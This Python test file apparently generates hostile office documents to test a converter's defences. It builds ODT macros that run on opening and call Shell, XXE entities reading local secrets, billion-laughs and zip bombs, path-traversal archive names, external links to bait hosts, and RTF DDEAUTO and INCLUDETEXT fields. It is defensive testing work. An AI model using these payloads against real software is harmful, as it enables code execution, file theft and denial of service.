"""Old formats, which LibreOffice opens: macros that run on opening, links to the outside, garbage."""

from __future__ import annotations

import random

from tests.hostile.archives import packed
from tests.hostile.case import Bait, case

ODT = "application/vnd.oasis.opendocument.text"
SPACES = " ".join(
    f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for short, name in (
        ("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"), ("script", "script"),
        ("svg", "svg-compatible"), ("style", "style"),
    )
) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events"'  # fmt: skip
HELD = ("Handlingsplan mot brott",)
WORDS = "<text:p>Handlingsplan mot brott</text:p>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def odt(body: str, *, head: str = "", doctype: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content {SPACES} office:version="1.2">{head}'
    )
    content += f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    more = more or {}
    names = "".join(f'<m:file-entry m:full-path="{n}" m:media-type="text/xml"/>' for n in ("content.xml", *more))
    manifest = (
        f'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" m:version="1.2">'
        f'<m:file-entry m:full-path="/" m:media-type="{ODT}"/>{names}</m:manifest>'
    )
    return packed({"mimetype": ODT, "content.xml": content, "META-INF/manifest.xml": manifest, **more})


def rtf(body: str) -> bytes:
    return (r"{\rtf1\ansi\ansicpg1252 Handlingsplan mot brott\par " + body + "}").encode("cp1252", "replace")


@case("odt-macro-on-opening.odt", "done", holds=HELD, group="office")
def macro(bait: Bait) -> bytes:
    library = "http://openoffice.org/2000/library"
    module = (
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">'
        f"Sub Main\nOpen &quot;{bait.canary}&quot; For Output As #1\nPrint #1, &quot;x&quot;\nClose #1\n"
        f"Shell(&quot;/usr/bin/touch {bait.canary}&quot;)\nEnd Sub</script:module>"
    )
    more: dict[str, str | bytes] = {
        "Basic/script-lc.xml": f'<l:libraries xmlns:l="{library}" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<l:library l:name="Standard" l:link="false"/></l:libraries>',
        "Basic/Standard/script-lb.xml": f'<l:library xmlns:l="{library}" l:name="Standard"><l:element l:name="M"/></l:library>',
        "Basic/Standard/M.xml": module,
    }
    call = "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"
    events = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{e}" xlink:href="{call}" xlink:type="simple"/>'
        for e in ("dom:load", "office:start-app", "dom:unload")
    )
    return odt(
        WORDS,
        head=f"<office:scripts><office:event-listeners>{events}</office:event-listeners></office:scripts>",
        more=more,
    )


@case("odt-linked-picture.odt", "done", holds=HELD, group="office")
def picture(bait: Bait) -> bytes:
    frame = '<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:image xlink:href="{}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
    return odt(
        WORDS + "<text:p>" + frame.format(f"{bait.url}/x.png") + frame.format(bait.secret.as_uri()) + "</text:p>"
    )


@case("odt-linked-section.odt", "done", holds=HELD, group="office")
def section(bait: Bait) -> bytes:
    linked = '<text:section text:name="S{}"><text:section-source xlink:href="{}" xlink:type="simple"/>{}</text:section>'
    body = WORDS + linked.format(1, bait.secret.as_uri(), WORDS) + linked.format(2, f"{bait.url}/x.odt", WORDS)
    return odt(body + linked.format(3, "../secret.txt", WORDS))


@case("odt-dde.odt", "done", holds=HELD, group="office")
def dde(bait: Bait) -> bytes:
    declared = (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" '
        f'office:dde-topic="{bait.secret}" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>'
    )
    return odt(
        declared + WORDS + '<text:p><text:dde-connection text:connection-name="d">x</text:dde-connection></text:p>'
    )


@case("odt-objects.odt", "done", holds=HELD, group="office")
def objects(bait: Bait) -> bytes:
    frame = '<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph">{}</draw:frame>'
    inner = (
        f'<draw:object xlink:href="{bait.url}/x.odt" xlink:type="simple" xlink:actuate="onLoad"/>',
        f'<draw:plugin xlink:href="{bait.url}/x.swf" xlink:type="simple"/>',
        f'<draw:floating-frame xlink:href="{bait.secret.as_uri()}" xlink:type="simple"/>',
        f'<draw:applet xlink:href="{bait.url}/" draw:code="X.class"/>',
    )
    return odt(WORDS + "<text:p>" + "".join(frame.format(i) for i in inner) + "</text:p>")


@case("odt-xxe.odt", "done", "truncated", "hostile", group="office")
def xxe(bait: Bait) -> bytes:
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.secret.as_uri()}"><!ENTITY f SYSTEM "{bait.url}/x">]>'
    return odt(WORDS + "<text:p>&e;&f;</text:p>", doctype=doctype)


@case("odt-billion-laughs.odt", "done", "truncated", "hostile", group="office")
def laughs(bait: Bait) -> bytes:
    lines = ['<!ENTITY l0 "ha">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))]
    return odt(WORDS + "<text:p>&l11;</text:p>", doctype=f"<!DOCTYPE x [{''.join(lines)}]>")


@case("odt-zip-bomb.odt", "hostile")
def bomb(bait: Bait) -> bytes:
    return odt(WORDS, more={"Pictures/x.bmp": bytes(64 << 20)})


@case("odt-repeated-cells.odt", "done", "too-large", "limit", "truncated", group="office")
def repeated(bait: Bait) -> bytes:
    row = '<table:table-row table:number-rows-repeated="20000"><table:table-cell table:number-columns-repeated="16000"/></table:table-row>'
    return odt(
        WORDS
        + f'<table:table table:name="T"><table:table-column table:number-columns-repeated="16000"/>{row}</table:table>'
    )


@case("odt-spaces-repeated.odt", "done", "too-large", "limit", "truncated", group="office")
def spaces(bait: Bait) -> bytes:
    return odt(WORDS + '<text:p>a<text:s text:c="2147483647"/>b</text:p>')


@case("odt-names-outside.odt", "done", holds=HELD, group="office")
def names(bait: Bait) -> bytes:
    return odt(WORDS, more={"../../evil.xml": "x", "Configurations2/../../../evil": "x", str(bait.canary): "x"})


# LibreOffice 7.4 takes gigabytes for these objects: only the limit of memory stops it.
@case("rtf-objects.rtf", "done", "limit", holds=HELD, group="office")
def rtf_object(bait: Bait) -> bytes:
    link = (
        r"{\object\objautlink\objupdate\rsltpict{\*\objclass Word.Document.8}{\*\objdata " + "01050000" * 2_000 + "}}"
    )
    return rtf(link + r"{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000" + "ff" * 3_000 + "}}")


@case("rtf-fields.rtf", "done", holds=HELD, group="office")
def rtf_fields(bait: Bait) -> bytes:
    codes = (
        f'INCLUDETEXT "{bait.secret}"', f'INCLUDEPICTURE "{bait.url}/x.png"', r'DDEAUTO cmd "/c calc" x',
        f'LINK Word.Document.8 "{bait.secret}"', f'HYPERLINK "{bait.url}"',
    )  # fmt: skip
    fields = "".join(rf"{{\field{{\*\fldinst {c}}}{{\fldrslt visat}}}}" for c in codes)
    return rtf(rf"{{\*\template {bait.url}/evil.dot}}" + fields)


@case("rtf-huge-bin.rtf", "done", "truncated", "limit", group="office")
def rtf_bin(bait: Bait) -> bytes:
    return rtf(r"{\pict\wmetafile8\bin2147483647 " + "A" * 10_000 + r"}{\pict\pngblip\bin-5 x}\par Slut\par")


@case("rtf-deep-groups.rtf", "done", "truncated", "limit", group="office")
def rtf_groups(bait: Bait) -> bytes:
    return rtf("{" * 100_000 + "djup" + "}" * 100_000)


@case("rtf-nested-tables.rtf", "done", "truncated", "too-large", "limit", group="office")
def rtf_tables(bait: Bait) -> bytes:
    rows = "".join(
        rf"\intbl\itap{n} cell{n}\nestcell{{\*\nesttableprops\trowd\cellx999999999\nestrow}}" for n in range(1, 90)
    )
    return rtf(r"\trowd\cellx-1\cellx2147483647 \intbl " + rows + r"\cell\row")


@case("rtf-a-web-page.rtf", "done", "truncated", group="office")
def rtf_web(bait: Bait) -> bytes:
    return rtf(rf'</rtf><html><img src="{bait.url}/x"><script src="{bait.url}/y"></script></html>')


@case("rtf-half.rtf", "done", "truncated", group="office")
def rtf_half(bait: Bait) -> bytes:
    return rtf(r"{\trowd\cellx3000\intbl Orsak\cell" + r"{\b " * 50)[:-60]


@case("doc-garbage.doc", "truncated", "limit", group="office")
def doc(bait: Bait) -> bytes:
    noise = random.Random(8).randbytes(30_000)
    return OLE + bytes(504) + "WordDocument".encode("utf-16-le") + noise


@case("doc-loop-of-sectors.doc", "truncated", "limit", group="office")
def sectors(bait: Bait) -> bytes:
    """Every entry of the allocation table, and of the directory, points to itself ([MS-CFB])."""
    header = bytearray(512)
    header[:8] = OLE
    header[24:34] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    header[44:48] = (1).to_bytes(4, "little")
    header[56:60] = (4096).to_bytes(4, "little")
    header[60:76] = b"\x00\x00\x00\x00" * 4
    header[76:512] = b"\x00\x00\x00\x00" * 109
    entry = (
        "WordDocument".encode("utf-16-le").ljust(64, b"\x00")
        + b"\x1a\x00\x02\x01"
        + b"\x00\x00\x00\x00" * 14
        + b"\xff\xff\xff\x7f"
    )
    return bytes(header) + b"\x00\x00\x00\x00" * 128 + entry.ljust(128, b"\x00") * 8


@case("spreadsheet.doc", "truncated", group="office")
def workbook(bait: Bait) -> bytes:
    return OLE + bytes(504) + "Workbook".encode("utf-16-le") + bytes(4000)


@case("locked.docx", "encrypted")
def locked(bait: Bait) -> bytes:
    return OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(4000)
